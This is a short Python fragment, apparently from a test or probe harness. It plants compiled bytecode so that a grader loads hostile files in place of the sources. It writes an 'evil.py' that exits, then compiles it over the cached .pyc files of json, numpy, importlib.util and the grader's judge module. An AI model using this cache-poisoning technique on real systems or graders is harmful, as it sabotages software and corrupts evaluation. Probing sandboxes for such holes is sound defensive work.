"""Compiled files that the grader will load in place of the sources."""
import importlib.util, py_compile

with open("evil.py", "w") as file:
    file.write("raise SystemExit")
for module in (json, np, importlib.util):
    target = importlib.util.cache_from_source(module.__file__)
    attempt(target, lambda: py_compile.compile("evil.py", target, doraise=True))
attempt("judge", lambda: py_compile.compile("evil.py", BAIT["checkout"] + "/course_lib/checking/__pycache__/judge.cpython-311.pyc", doraise=True))
